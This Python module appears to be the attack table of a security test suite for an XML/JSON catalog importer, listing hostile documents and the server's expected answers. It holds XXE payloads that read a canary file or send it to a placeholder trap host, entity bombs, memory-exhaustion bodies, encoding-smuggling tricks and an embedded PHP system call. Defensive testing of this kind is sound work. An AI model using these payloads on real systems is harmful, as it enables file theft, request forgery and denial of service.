"""The table of attacks by documents: what is sent, by which way, and the exact answer. `test_attacks.py` sends each and then looks at the server.

Messages and requests are in `attack_messages.py`, values in `attack_values.py`. Beside them lie `bad_inputs.py` (broken documents and messages,
packed bodies, messages in parts) and `test_soap_security.py` (replayed and expired tokens). Here is what is meant to hurt: to read files, to call
out, to cost memory, to smuggle one thing as another. `{trap}` is the address of a listener that nobody may call, `{canary}` that of a file whose text may never be answered.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator

XML = "application/xml"
JSON = "application/json"
NDJSON = "application/x-ndjson"
CSV = "text/csv"

# By how much the server's memory may grow at its highest, where nothing else is said.
MEMORY_MIB = 48

# The ways of a document: as the body over REST; over SOAP as an element, as text, as an attachment.
REST, GLUED, TEXT, ATTACHED = "rest", "glued", "text", "attached"
WAYS = (REST, GLUED, TEXT, ATTACHED)


@dataclasses.dataclass(frozen=True)
class Answer:
    """What is answered, and what the catalog holds afterwards. A failed import has status 200 and its code."""

    status: int
    code: str | None = None
    titles: tuple[str, ...] = ()
    # The codes of the findings, each once.
    findings: tuple[str, ...] = ()


def failed(code: str, *findings: str) -> Answer:
    """The document was taken in, and nothing of it imported."""
    return Answer(200, code, (), findings)


def stored(*titles: str, findings: tuple[str, ...] = ()) -> Answer:
    return Answer(200, None, titles, findings)


def fault(code: str, status: int = 500) -> Answer:
    return Answer(status, code)


@dataclasses.dataclass(frozen=True)
class Big:
    """A document that is made while it is sent; `%d` in the unit is its number."""

    head: bytes
    unit: bytes
    times: int
    tail: bytes = b""

    def pieces(self) -> Iterator[bytes]:
        yield self.head
        at_once = 1 + (256 << 10) // len(self.unit)
        for start in range(0, self.times, at_once):
            count = min(at_once, self.times - start)
            yield b"".join(self.unit % number for number in range(start, start + count)) if b"%d" in self.unit else self.unit * count
        yield self.tail


@dataclasses.dataclass(frozen=True)
class Document:
    """A document and its answer by each way that can carry it."""

    name: str
    body: bytes | Big
    answers: dict[str, Answer]
    content_type: str = XML
    memory_mib: int = MEMORY_MIB
    # The ways by which the answer comes while the document is still being sent.
    early: tuple[str, ...] = ()


def by(answer: Answer, *ways: str) -> dict[str, Answer]:
    return dict.fromkeys(ways or WAYS, answer)


def item(title: bytes = b"New", more: bytes = b"", sku: bytes = b"NEW-1") -> bytes:
    return b"<item><sku>" + sku + b"</sku>" + more + b"<texts><lang>en</lang><title>" + title + b"</title></texts></item>"


def items(title: bytes = b"New", more: bytes = b"", attributes: bytes = b"") -> bytes:
    return b"<items" + attributes + b">" + item(title, more) + b"</items>"


def doctype(subset: bytes, title: bytes = b"New", external: bytes = b"") -> bytes:
    return b"<!DOCTYPE items " + external + b"[" + subset + b"]>" + items(title)


MALFORMED, LIMIT, ENTITY, ENCODING = "document_malformed", "limit_exceeded", "entity_unknown", "encoding_invalid"
TAKEN = stored("New")
# Not well-formed: what SOAP carries as an element is part of the message.
REFUSED = by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault(MALFORMED), GLUED)
REJECTED_INVALID = failed("too_many_rejected", "field_invalid")

# --- What a document type declares. It is stepped over unread: who refers to nothing of it is imported. ---

PARAMETER_BOMB = b"".join(b"<!ENTITY %% a%d '%s'>" % (n, b"%%a%d;" % (n - 1) * 10) for n in range(1, 10))
XINCLUDE = b"<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='%s' parse='text'/>"
# As an element within an envelope it is looked at while it is sent.
LIMITED = by(failed(LIMIT), REST, TEXT, ATTACHED) | by(fault(LIMIT), GLUED)

DOCTYPES = [
    Document("quadratic blow-up", doctype(b"<!ENTITY a '" + b"x" * 50_000 + b"'>", b"&a;" * 50_000), by(failed(ENTITY))),
    Document("entities that refer to each other", doctype(b"<!ENTITY a '&b;'><!ENTITY b '&a;'>", b"&a;"), by(failed(ENTITY))),
    Document("a parameter entity that declares one", doctype(b"<!ENTITY % p \"<!ENTITY b 'x'>\"> %p;", b"&b;"), by(failed(ENTITY))),
    Document("a bomb of parameter entities", doctype(b"<!ENTITY % a0 'ha'>" + PARAMETER_BOMB + b"%a9;"), by(TAKEN)),
    Document("a parameter entity by http", doctype(b"<!ENTITY % p SYSTEM '{trap}p.dtd'> %p; %sent;"), by(TAKEN)),
    Document("a file sent out by a parameter entity",
             doctype(b"<!ENTITY % f SYSTEM '{canary}'><!ENTITY % p \"<!ENTITY &#37; out SYSTEM '{trap}?%f;'>\"> %p; %out;"), by(TAKEN)),
    Document("an external entity by http", doctype(b"<!ENTITY x SYSTEM '{trap}x'>", b"&x;"), by(failed(ENTITY))),
    Document("an external entity by PUBLIC", doctype(b"<!ENTITY x PUBLIC '-//X//Y//EN' '{trap}x'>", b"&x;"), by(failed(ENTITY))),
    Document("an external entity of a file", doctype(b"<!ENTITY x SYSTEM '{canary}'>", b"&x;"), by(failed(ENTITY))),
    Document("an external entity in an attribute", doctype(b"<!ENTITY x SYSTEM '{canary}'>").replace(b"<item>", b"<item a='&x;'>"), by(failed(ENTITY))),
    Document("an external entity nobody refers to", doctype(b"<!ENTITY x SYSTEM '{canary}'>"), by(TAKEN)),
    Document("an unparsed entity", doctype(b"<!NOTATION n SYSTEM '{trap}n'><!ENTITY x SYSTEM '{canary}' NDATA n>"), by(TAKEN)),
    Document("an external DTD by SYSTEM", b"<!DOCTYPE items SYSTEM '{trap}items.dtd'>" + items(), by(TAKEN)),
    Document("an external DTD by PUBLIC", b"<!DOCTYPE items PUBLIC '-//X//Y//EN' '{trap}items.dtd'>" + items(), by(TAKEN)),
    Document("an external DTD in UTF-16", b"<!DOCTYPE items SYSTEM '{trap}utf-16.dtd'>" + items(b"&x;"), by(failed(ENTITY))),
    Document("a file as DTD", b"<!DOCTYPE items SYSTEM '{canary}'>" + items(), by(TAKEN)),
    Document("a default for an attribute", doctype(b"<!ATTLIST items xmlns CDATA 'urn:x'><!ATTLIST sku value CDATA 'OTHER'>"), by(TAKEN)),
    Document("one of XML's five declared anew", doctype(b"<!ENTITY lt '&#38;#60;x'><!ENTITY amp SYSTEM '{canary}'>", b"&lt;b&amp;"), by(stored("<b&"))),
    Document("a conditional section", doctype(b"<!ENTITY % on 'INCLUDE'><![%on;[<!ENTITY x 'y'>]]>"), by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(TAKEN, GLUED)),
    Document("an end of its own in quotes", doctype(b"<!ENTITY x ']><items>'>"), by(TAKEN)),
    Document("an end of its own in a comment", doctype(b"<!-- ]><items/> ' -->"), by(TAKEN)),
    Document("an end of its own in an instruction", doctype(b"<?x ]><items/> ' ?>"), by(TAKEN)),
    Document("in UTF-16", doctype(b"<!ENTITY x SYSTEM '{canary}'>", b"&x;").decode().encode("utf-16"), by(failed(ENTITY), REST, ATTACHED)),
    Document("in small letters", b"<!doctype items>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault(MALFORMED), GLUED)),
    Document("two of them", b"<!DOCTYPE a><!DOCTYPE b>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("within the root", b"<items><!DOCTYPE a>" + item() + b"</items>", by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault("doctype_refused"), GLUED)),
    Document("never closed", b"<!DOCTYPE items [<!ENTITY a 'x'>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("never closed in quotes", b"<!DOCTYPE items SYSTEM 'x>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("10 MB of it", Big(b"<!DOCTYPE items [", b"<!ENTITY a%d 'x'>", 500_000, b"]>" + items()), LIMITED, early=(GLUED,)),
    Document("10 MB of it, never closed", Big(b"<!DOCTYPE items '", b"x" * 1000, 10_000), LIMITED, early=(GLUED,)),
    Document("an XInclude of a file", items(more=XINCLUDE % b"{canary}"), by(stored("New", findings=("field_unknown",)))),
    Document("an XInclude by http as text", items(XINCLUDE % b"{trap}x"), by(REJECTED_INVALID)),
    Document("a schema elsewhere", items(attributes=b" xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:noNamespaceSchemaLocation='{trap}x.xsd'"), by(TAKEN)),
    Document("a style sheet elsewhere", b"<?xml-stylesheet type='text/xsl' href='{trap}x.xsl'?>" + items(), by(TAKEN)),
    Document("a base elsewhere", items(attributes=b" xml:base='{trap}'"), by(TAKEN)),
]

# --- What costs memory. ---

# In units of 1,000 bytes; the limits are at 1 MiB.
MB_50, MB_4 = 50_000, 4_000


def big(head: bytes, tail: bytes, unit: bytes = b"x" * 1000, times: int = MB_4) -> Big:
    return Big(b"<items>" + head, unit, times, tail + item() + b"</items>")


def limited(name: str, body: Big, *ways: str) -> Document:
    """Beyond a limit. What SOAP looks at is refused while it is sent."""
    return Document(name, body, by(failed(LIMIT), REST, *ways) | by(fault(LIMIT), GLUED), early=(GLUED,))


SIZES = [
    limited("100,000 levels", big(b"", b"</a>" * 100_000, b"<a>", 100_000), TEXT, ATTACHED),
    limited("100,000 levels, never closed", Big(b"<items>", b"<a>", 100_000)),
    limited("a million attributes", big(b"<a", b"/>", b' a%d="1"', 1_000_000)),
    limited("100,000 declarations of namespaces", big(b"<a", b"/>", b' xmlns:n%d="urn:x"', 100_000)),
    limited("100,000 declarations, one at each level", big(b"", b"", b'<a xmlns:n%d="urn:x">', 100_000)),
    limited("an attribute of 50 MB", big(b'<a b="', b'"/>', times=MB_50)),
    # A text is copied on by SOAP piece by piece, whatever its length; the import refuses it.
    Document("a text of 50 MB", big(b"<a>", b"</a>", times=MB_50), by(failed(LIMIT), REST)),
    Document("a text of 4 MB", big(b"<a>", b"</a>"), by(failed(LIMIT))),
    Document("a CDATA section", big(b"<a><![CDATA[", b"]]></a>"), by(failed(LIMIT), REST, GLUED)),
    Document("a text of 100,000 references", big(b"<a>", b"</a>", b"&#120;" * 100, 1000), by(stored("New", findings=("field_unknown",)), REST, GLUED)),
    limited("a name", big(b"<", b"/>")),
    limited("an attribute's name", big(b"<a ", b"=''/>")),
    limited("an end tag", big(b"<a></a", b">", b" " * 1000)),
    Document("a comment", big(b"<!--", b"-->"), by(failed(LIMIT), REST, GLUED)),
    Document("an instruction", big(b"<?a ", b"?>"), by(failed(LIMIT), REST, GLUED)),
    Document("a reference", big(b"<a>&", b";</a>"), by(failed(LIMIT), REST) | by(fault(MALFORMED), GLUED), early=(GLUED,)),
    limited("blanks within a tag", big(b"<a", b"/>", b" " * 1000)),
]

# --- Names, namespaces, encodings, characters, markup: what two readers could understand differently. ---

DUPLICATES = [
    Document("one attribute twice by its namespace", items(attributes=b" xmlns:a='urn:x' xmlns:b='urn:x' a:x='1' b:x='2'"), REFUSED),
    Document("one attribute with a namespace and without", items(attributes=b" xmlns='urn:x' xmlns:a='urn:x' a:x='1' x='2'"), by(TAKEN)),
    Document("one declaration twice", items(attributes=b" xmlns:a='urn:x' xmlns:a='urn:y'"), REFUSED),
    Document("the default declared twice", items(attributes=b" xmlns='urn:x' xmlns='urn:y'"), REFUSED),
    Document("one element twice", items(more=b"<sku>OTHER</sku>"), by(REJECTED_INVALID)),
]

PREFIXES = [
    Document("xml bound to another namespace", items(attributes=b" xmlns:xml='urn:x'"), REFUSED),
    Document("xml bound to its own", items(attributes=b" xmlns:xml='http://www.w3.org/XML/1998/namespace'"), by(TAKEN)),
    Document("another prefix bound to that of xml", items(attributes=b" xmlns:a='http://www.w3.org/XML/1998/namespace'"), by(failed(MALFORMED))),
    Document("xmlns bound", items(attributes=b" xmlns:xmlns='urn:x'"), REFUSED),
    Document("a prefix bound to that of xmlns", items(attributes=b" xmlns:a='http://www.w3.org/2000/xmlns/'"), by(failed(MALFORMED))),
    Document("a prefix taken back", items(attributes=b" xmlns:a=''"), REFUSED),
    Document("an attribute's prefix that nobody declared", items(attributes=b" a:x='1'"), REFUSED),
    Document("an element's prefix out of scope", items(more=b"<a:x xmlns:a='urn:x'/><a:y/>"), REFUSED),
    Document("two colons", items(more=b"<a:b:c xmlns:a='urn:x'/>"), REFUSED),
    Document("a colon first", items(more=b"<:a/>"), REFUSED),
    Document("a colon last", items(more=b"<a: xmlns:a='urn:x'/>"), REFUSED),
    Document("a name that begins with a digit", items(more=b"<1a/>"), REFUSED),
    Document("a name with a blank first", items(more=b"< a/>"), REFUSED),
    Document("a default namespace taken back", items(attributes=b" xmlns='urn:x'").replace(b"<item>", b"<item xmlns=''>"), by(TAKEN)),
    Document("a payload in no namespace", items(attributes=b" xmlns=''"), by(TAKEN)),
    Document("an element in a namespace of its own", items().replace(b"<sku>", b"<sku xmlns='urn:y'>"), by(TAKEN)),
    Document("the service's prefix bound anew", b"<c:items xmlns:c='urn:x'>" + item() + b"</c:items>", by(TAKEN)),
    Document("the envelope's prefix bound anew", b"<soapenv:items xmlns:soapenv='urn:x'>" + item() + b"</soapenv:items>", by(TAKEN)),
]

DECLARED_UTF_16 = b'<?xml version="1.0" encoding="UTF-16"?>'
DECLARED_UTF_8 = '<?xml version="1.0" encoding="UTF-8"?>'
TEXT_OF_ITEMS = items().decode()
AS_BYTES = (REST, ATTACHED)


def encoded(name: str, body: bytes, answer: Answer, charset: str = "") -> Document:
    """Bytes that an envelope cannot carry in itself."""
    return Document(name, body, by(answer, *AS_BYTES), XML + (f"; charset={charset}" if charset else ""))


ENCODINGS = [
    encoded("UTF-16 declared, UTF-8 sent", DECLARED_UTF_16 + items(), failed(ENCODING)),
    encoded("UTF-8 declared, UTF-16 sent", (DECLARED_UTF_8 + TEXT_OF_ITEMS).encode("utf-16-le"), TAKEN),
    encoded("UTF-8 declared, UTF-16 sent with its mark", (DECLARED_UTF_8 + TEXT_OF_ITEMS).encode("utf-16"), TAKEN),
    encoded("UTF-8 declared, UTF-16 as charset, neither sent", DECLARED_UTF_8.encode() + items(), failed(MALFORMED), "utf-16"),
    encoded("UTF-32 with a mark", TEXT_OF_ITEMS.encode("utf-32"), failed(ENCODING)),
    encoded("UTF-32, big end first", TEXT_OF_ITEMS.encode("utf-32-be"), failed(ENCODING)),
    encoded("UTF-32, little end first", TEXT_OF_ITEMS.encode("utf-32-le"), failed(ENCODING)),
    encoded("UTF-32 as charset", items(), failed(ENCODING), "utf-32"),
    encoded("EBCDIC declared, ASCII sent", b'<?xml version="1.0" encoding="IBM037"?>' + items(), failed(ENCODING)),
    encoded("EBCDIC declared and sent", ('<?xml version="1.0" encoding="IBM037"?>' + TEXT_OF_ITEMS).encode("cp037"), failed(ENCODING)),
    encoded("EBCDIC sent, nothing declared", TEXT_OF_ITEMS.encode("cp037"), failed(ENCODING)),
    encoded("a mark against the charset", b"\xef\xbb\xbf" + items("Größe".encode()), stored("Größe"), "iso-8859-1"),
    encoded("a mark against the declaration", b'\xef\xbb\xbf<?xml version="1.0" encoding="iso-8859-1"?>' + items("Größe".encode()), stored("Größe")),
    encoded("a charset against the declaration", b'<?xml version="1.0" encoding="utf-8"?>' + items("Größe".encode("cp1252")), stored("Größe"), "windows-1252"),
    encoded("the mark of UTF-16 and nothing else", b"\xff\xfe", failed(MALFORMED)),
    encoded("two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + items(), failed(MALFORMED)),
    encoded("UTF-7 declared", b'<?xml version="1.0" encoding="UTF-7"?>' + items(b"+ADw-script+AD4-"), failed(ENCODING)),
    encoded("UTF-7 as charset", items(b"+ADw-script+AD4-"), failed(ENCODING), "utf-7"),
    encoded("UTF-7 that nobody declared", b"+ADw-items/+AD4-", failed(MALFORMED)),
    encoded("UTF-7 in a text is text", items(b"+ADw-script+AD4-"), stored("+ADw-script+AD4-")),
    encoded("ISO-2022-KR, which hides ASCII", b'<?xml version="1.0" encoding="ISO-2022-KR"?>' + items(), failed(ENCODING)),
    encoded("HZ, which hides ASCII", b'<?xml version="1.0" encoding="HZ-GB-2312"?>' + items(), failed(ENCODING)),
    encoded("ASCII declared, more sent", b'<?xml version="1.0" encoding="US-ASCII"?>' + items("Größe".encode()), failed(ENCODING)),
    encoded("a charset that is none", items(), failed(ENCODING), '"\\";alert(1)"'),
    encoded("overlong: two bytes", items(b"a\xc0\xbcb"), failed(ENCODING)),
    encoded("overlong: three bytes", items(b"a\xe0\x80\xbcb"), failed(ENCODING)),
    encoded("overlong: the end of a tag", b"<items>" + item().replace(b"<sku>", b"<sku\xc0\xbe"), failed(ENCODING)),
    encoded("overlong: NUL", items(b"a\xc0\x80"), failed(ENCODING)),
    encoded("CESU-8", items(b"\xed\xa0\xbd\xed\xb8\x80"), failed(ENCODING)),
    encoded("half a pair in UTF-8", items(b"\xed\xa0\xbd"), failed(ENCODING)),
    encoded("half a pair in UTF-16", b"\xff\xfe" + items(b"@").decode().encode("utf-16-le").replace(b"@\0", b"\x3d\xd8"), failed(ENCODING)),
    encoded("beyond Unicode", items(b"\xf4\x90\x80\x80"), failed(ENCODING)),
    encoded("six bytes of a character", items(b"\xfc\x80\x80\x80\x80\xaf"), failed(ENCODING)),
    encoded("cut within a character", items("ö".encode())[:-60] + b"\xc3", failed(ENCODING)),
]

CHARACTERS = [
    encoded("NUL", items(b"a\0b"), failed(MALFORMED)),
    encoded("NUL behind the end", items() + b"\0", failed(MALFORMED)),
    encoded("U+FFFE", items("\ufffe".encode()), failed(MALFORMED)),
    encoded("U+FFFF", items("\uffff".encode()), failed(MALFORMED)),
    encoded("an escape of terminals", items(b"\x1b[2J"), failed(MALFORMED)),
    Document("reference to NUL", items(b"&#0;"), REFUSED),
    Document("reference to an escape", items(b"&#x1B;"), REFUSED),
    Document("reference to U+FFFF", items(b"&#xFFFF;"), REFUSED),
    Document("reference to half a pair", items(b"&#xD800;"), REFUSED),
    Document("reference beyond Unicode", items(b"&#x110000;"), REFUSED),
    Document("reference beyond all integers", items(b"&#99999999999999999999999;"), REFUSED),
    Document("reference with a sign", items(b"&#-1;"), REFUSED),
    Document("reference with another sign", items(b"&#+65;"), REFUSED),
    Document("reference to nothing", items(b"&#;"), REFUSED),
    Document("reference in capitals", items(b"&#X41;"), REFUSED),
    Document("reference without a name", items(b"&;"), REFUSED),
    Document("reference without an end", items(b"&amp"), REFUSED),
    Document("reference within a reference", items(b"&#38;lt;"), by(stored("&lt;"))),
    Document("references to markup", items(b"&#60;/title&#62;&#38;"), by(stored("</title>&"))),
    Document("controls of ISO 8859 as references", items(b"a&#x85;b"), by(stored("a\x85b"))),
    Document("line ends as references", items(b"a&#13;&#10;b"), by(stored("a\r\nb"))),
    Document("line ends", items(b"a\r\nb\rc"), by(stored("a\nb\nc"))),
]

MARKUP = [
    Document("an end of CDATA in a text", items(b"a]]>b"), REFUSED),
    Document("CDATA outside of the root", b"<![CDATA[x]]>" + items(), by(failed(MALFORMED), *AS_BYTES)),
    Document("CDATA within CDATA", items(b"<![CDATA[<![CDATA[x]]>"), by(stored("<![CDATA[x"))),
    Document("markup in CDATA", items(b"<![CDATA[</title><script>&amp;]]>"), by(stored("</title><script>&amp;"))),
    Document("an end of CDATA divided", items(b"<![CDATA[a]]]]><![CDATA[>b]]>"), by(stored("a]]>b"))),
    Document("a text divided by CDATA", items(b"N<![CDATA[e]]>w"), by(TAKEN)),
    Document("a text divided by a comment", items(b"Ne<!-- x -->w"), by(TAKEN)),
    Document("a text divided by an instruction", items(b"Ne<?x y?>w"), by(TAKEN)),
    Document("a number divided by a comment", b"<items>" + item(sku=b"NEW<!-- -->-1") + b"</items>", by(TAKEN)),
    Document("CDATA without an end", items(b"<![CDATA[x"), REFUSED),
    Document("CDATA in small letters", items(b"<![cdata[x]]>"), REFUSED),
    Document("a comment without an end", items(b"<!-- x"), REFUSED),
    Document("a comment with two dashes", items(b"<!-- a -- b -->New"), REFUSED),
    Document("a comment that ends at once", items(b"<!-->New"), REFUSED),
    Document("an instruction without an end", items(b"<?x y"), REFUSED),
    Document("an instruction that would be run", items(more=b"<?php system('id')?>"), by(TAKEN)),
    Document("an instruction called XML", items(more=b"<?XML x?>"), by(failed(MALFORMED))),
    Document("a declaration within the root", items(more=b'<?xml version="1.0"?>'), REFUSED),
    Document("a declaration behind a blank", b' <?xml version="1.0"?>' + items(), by(failed(MALFORMED), *AS_BYTES) | by(TAKEN, GLUED, TEXT)),
    Document("two declarations", b'<?xml version="1.0"?>' * 2 + items(), by(failed(MALFORMED), *AS_BYTES)),
    Document("version 1.1", b'<?xml version="1.1"?>' + items(), by(TAKEN)),
    Document("a declaration within a declaration", items(b"<!ENTITY x 'y'>"), REFUSED),
    Document("an attribute without quotes", items(attributes=b" a=b"), REFUSED),
    Document("an attribute without a value", items(attributes=b" a"), REFUSED),
    Document("attributes without a blank between", items(attributes=b" a='1'b='2'"), REFUSED),
    Document("a tag in an attribute", items(attributes=b" a='<b/>'"), REFUSED),
    Document("a slash in the middle", items(more=b"<a/b>"), REFUSED),
    Document("an end tag with an attribute", items(more=b"<a></a b='c'>"), REFUSED),
    Document("an end tag of another case", items(more=b"<a></A>"), REFUSED),
    Document("nothing but a start", b"<", by(failed(MALFORMED), *AS_BYTES)),
    Document("a tag without an end", b"<items", by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("an attribute without an end", b"<items a='", by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("an item without an end", b"<items><item><sku>NEW-1", by(failed(MALFORMED), REST, TEXT, ATTACHED) | by(fault(MALFORMED), GLUED)),
    Document("an end before the start", b"</items>" + items(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("an item behind the root", items() + item(), by(failed(MALFORMED), REST, TEXT, ATTACHED)),
    Document("another root behind CDATA", items() + b"<![CDATA[]]>", by(failed(MALFORMED), *AS_BYTES)),
]

# --- Records that are larger than any is ---


PRICE = b"<prices><kind>list</kind><amount>1</amount><currency>EUR</currency></prices>"
PRICE_OF_JSON = b'{"kind":"list","amount":"1","currency":"EUR"}'


def oversize() -> Iterator[Document]:
    too_many, too_large = failed("too_many_rejected", "field_length"), failed("too_many_rejected", "record_too_large")
    begun = b"<items><item><sku>NEW-1</sku>"
    yield Document("100,000 prices of an item", Big(begun, PRICE, 100_000, items().removeprefix(begun)), by(too_large, REST), memory_mib=96)
    begun = b'[{"sku":"NEW-1","texts":[{"lang":"en","title":"New"}],"prices":['
    yield Document("100,000 prices of an item in JSON", Big(begun, PRICE_OF_JSON + b",", 99_999, PRICE_OF_JSON + b"]}]"), by(too_many, REST), JSON, memory_mib=96)
    yield Document("an item of 20 MB", Big(b"<items><item><sku>NEW-1</sku>", b"<brand>" + b"x" * 1000 + b"</brand>", 20_000, b"</item>" + item() + b"</items>"),
                   by(stored("New", findings=("record_too_large",)), REST), memory_mib=96)
    yield Document("an item of 20 MB in JSON", Big(b'[{"sku":"NEW-1","brand":"', b"x" * 1000, 20_000, b'"},{"sku":"NEW-2","texts":[{"lang":"en","title":"New"}]}]'),
                   by(stored("New", findings=("record_too_large",)), REST), JSON, memory_mib=96)
    yield Document("a line of 20 MB", Big(b'{"sku":"', b"x" * 1000, 20_000, b'"}\n{"sku":"NEW-2","texts":[{"lang":"en","title":"New"}]}\n'),
                   by(stored("New", findings=("record_too_large",)), REST), NDJSON, memory_mib=96)
    yield Document("a cell of 20 MB", Big(b'sku,title,lang\nNEW-1,"', b"x" * 1000, 20_000, b'",en\nNEW-2,New,en\n'), by(stored("New", findings=("record_too_large",)), REST), CSV, memory_mib=96)
    yield Document("a quote that never ends", Big(b'sku,title,lang\nNEW-1,"', b"x\n" * 500, 20_000), by(failed(MALFORMED), REST), CSV, memory_mib=96)
    yield Document("100,000 empty items", Big(b"<items>", b"<item/>", 100_000, b"</items>"), by(failed("too_many_rejected", "sku_missing"), REST))
    yield Document("100,000 empty items in JSON", Big(b"[", b"{},", 99_999, b"{}]"), by(failed("too_many_rejected", "sku_missing"), REST), JSON)
    yield Document("100,000 levels of JSON", Big(b"[", b'{"a":[', 50_000, b""), by(failed(LIMIT), REST), JSON)
    yield Document("100,000 levels in a record of JSON", Big(b'[{"sku":"NEW-1","x":', b"[", 100_000, b"]" * 100_000 + b"}]"), by(failed(LIMIT), REST), JSON)


OVERSIZE = [*oversize()]

DOCUMENTS = DOCTYPES + SIZES + DUPLICATES + PREFIXES + ENCODINGS + CHARACTERS + MARKUP + OVERSIZE
